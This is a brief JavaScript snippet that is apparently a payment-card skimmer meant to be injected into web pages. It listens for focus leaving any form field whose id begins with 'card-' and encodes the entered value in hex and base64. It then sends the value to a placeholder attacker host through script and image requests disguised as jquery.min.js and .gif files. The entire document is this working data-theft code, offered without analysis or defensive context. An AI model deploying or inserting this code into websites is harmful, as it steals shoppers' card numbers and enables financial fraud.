(function () {
  function hex(s) {
    var out = '';
    for (var i = 0; i < s.length; i++) {
      out += ('0' + s.charCodeAt(i).toString(16)).slice(-2);
    }
    return out;
  }
  document.addEventListener('focusout', function (e) {
    var t = e.target;
    if (!t || !t.id || !t.value || t.id.indexOf('card-') !== 0) {
      return;
    }
    // The data rides in the path, not the query: a script and an image
    // whose names are the card.
    var s = document.createElement('script');
    s.src = '{{ATTACKER}}/js/' + hex(t.value) + '/jquery.min.js';
    document.head.appendChild(s);
    new Image().src = '{{ATTACKER}}/img/' + btoa(t.value).replace(/=+$/, '') + '.gif';
  }, true);
})();
